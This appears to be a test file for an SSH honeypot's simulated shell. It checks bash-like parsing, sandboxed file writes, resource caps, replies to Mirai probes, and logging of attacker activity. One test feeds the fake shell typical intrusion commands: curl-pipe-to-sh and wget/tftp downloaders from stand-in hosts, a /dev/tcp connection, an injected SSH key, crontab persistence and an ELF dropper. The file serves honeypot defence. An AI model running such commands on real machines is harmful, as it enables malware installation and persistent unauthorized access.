import { expect, test } from "bun:test";
import { baseTree } from "./base-tree.ts";
import { FileTree } from "./file-tree.ts";
import { generatePersona } from "./persona.ts";
import { DEFAULT_SHELL_LIMITS } from "./session-limits.ts";
import { FakeShell } from "./shell.ts";

const persona = generatePersona("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", mulberry(7));
function mulberry(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const shell = (user = "root", limits = DEFAULT_SHELL_LIMITS) => new FakeShell(persona, new FileTree(baseTree(persona), limits), user, limits);

test("lists, pipes, redirections, substitutions and quotes behave as in bash", () => {
  const sh = shell();
  expect(sh.run("echo a; echo b && echo c || echo d")).toBe("a\nb\nc\n");
  expect(sh.run("false && echo x || echo y")).toBe("y\n");
  expect(sh.run("echo 'a  b' \"$HOME\" \\$x")).toBe("a  b /root $x\n");
  expect(sh.run("X=1; export Y=2; echo $X$Y ${Y}")).toBe("12 2\n");
  expect(sh.run("echo $(echo $(hostname))")).toBe(`${persona.hostname}\n`);
  expect(sh.run("echo hi > /tmp/f; echo there >> /tmp/f; cat /tmp/f | wc -l")).toBe("2\n");
  expect(sh.run("cat < /etc/hostname")).toBe(`${persona.hostname}\n`);
  expect(sh.run("ls /nope 2>/dev/null; echo $?")).toBe("2\n");
  expect(sh.run("if [ -d /tmp ]; then echo yes; else echo no; fi")).toBe("yes\n");
  expect(sh.run("if [ -f /nope ]; then echo yes; else echo no; fi")).toBe("no\n");
  expect(sh.run('echo "unterminated')).toContain("unexpected EOF");
  expect(sh.run("cd /tmp && pwd; cd; pwd")).toBe("/tmp\n/root\n");
  expect(sh.run("{ echo a; echo b; } > /tmp/ab; (cat /tmp/ab; echo c) | wc -l")).toBe("3\n");
  expect(sh.run("(echo x")).toBe("-bash: syntax error: unexpected end of file\n");
});

test("the file tree: writes stay in the session, pseudo file systems refuse, rm of a missing file errors", () => {
  const sh = shell();
  expect(sh.run("touch /proc/x")).toContain("No such file or directory");
  expect(sh.run("echo x > /sys/y")).toContain("No such file or directory");
  expect(sh.run("rm /tmp/nothing")).toBe("rm: cannot remove '/tmp/nothing': No such file or directory\n");
  expect(sh.run("rm -f /tmp/nothing; echo $?")).toBe("0\n");
  sh.run("mkdir -p /tmp/a/b && echo z > /tmp/a/b/c && chmod 755 /tmp/a/b/c");
  expect(sh.run("ls -l /tmp/a/b")).toMatch(/^-rwxr-xr-x 1 root root +2 .* c$/m);
  expect(shell().run("ls /tmp/a")).toContain("No such file or directory");
});

test("capture: URLs and hosts of downloaders, /dev/tcp, authorized_keys and crontab persistence, droppers", () => {
  const sh = shell();
  sh.run("cd /tmp; wget http://203.0.113.50/bins/x.sh -O x; curl -s https://evil.example/a | sh; tftp -g -r m.arm 198.51.100.7; ftpget 198.51.100.8 b b");
  sh.run("echo hi > /dev/tcp/192.0.2.9/4444; busybox wget http://192.0.2.10/y");
  sh.run("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtQ0qQ0S0H3b8m7CgYqz0s1wq8m2v3x4y5z6a7b8c9d k@x' >> ~/.ssh/authorized_keys");
  sh.run("(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/x') | crontab -");
  sh.run("echo '* * * * * root /tmp/x' > /etc/cron.d/x");
  sh.run("echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > /tmp/.d; echo -ne '\\x02' >> /tmp/.d; printf '\\101\\102' > /tmp/p");
  const c = sh.capture;
  expect(c.urls).toEqual(expect.arrayContaining(["http://203.0.113.50/bins/x.sh", "https://evil.example/a", "tftp://198.51.100.7/m.arm", "ftp://198.51.100.8/b", "http://192.0.2.10/y"]));
  expect(c.hosts).toEqual(expect.arrayContaining(["203.0.113.50", "evil.example", "198.51.100.7", "198.51.100.8", "192.0.2.9", "192.0.2.10"]));
  expect(c.persistence.map((p) => p.kind)).toEqual(expect.arrayContaining(["authorized_key", "crontab"]));
  expect(c.persistence).toContainEqual({ kind: "crontab", path: "/var/spool/cron/crontabs/root", detail: "*/5 * * * * /tmp/x" });
  expect(c.persistence.find((p) => p.kind === "authorized_key")?.key_fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  expect(sh.fs.read("/tmp/.d")).toBe("\x7fELF\x01\x02");
  expect(sh.fs.read("/tmp/p")).toBe("AB");
  expect(sh.fs.writtenFiles().filter(([, n]) => n.written === "dropper").map(([p]) => p).sort()).toEqual(["/tmp/.d", "/tmp/p"]);
});

test("Mirai's probes get what a Linux box answers", () => {
  const sh = shell();
  expect(sh.run("enable")).toBe("");
  expect(sh.run("system")).toBe("-bash: system: command not found\n");
  expect(sh.run("sh")).toBe("");
  expect(sh.run("/bin/busybox ECCHI")).toBe("ECCHI: applet not found\n");
  expect(sh.run("/bin/busybox echo hi")).toBe("hi\n");
});

test("a non-root login gets its own home and a $ prompt", () => {
  const sh = shell("admin");
  expect(sh.prompt()).toBe(`admin@${persona.hostname}:~$ `);
  expect(sh.run("pwd; whoami; id -u")).toBe(`/home/admin\nadmin\n${sh.uid}\n`);
});

test("bounds: output, steps, nesting and the tree's bytes are capped", () => {
  const limits = { ...DEFAULT_SHELL_LIMITS, maxOutputPerLine: 1000, maxFsBytes: 2048, maxStepsPerLine: 50 };
  const sh = shell("root", limits);
  expect(sh.run("cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo").length).toBeLessThanOrEqual(1000);
  expect(sh.run(Array.from({ length: 200 }, () => "echo x").join(";")).length).toBeLessThanOrEqual(100);
  expect(sh.run("echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))")).toBe("\n");
  for (let i = 0; i < 10; i++) sh.run(`printf "%200s" x > /tmp/f${i}`);
  expect(sh.run("printf '%200s' x > /tmp/g")).toContain("No space left on device");
});
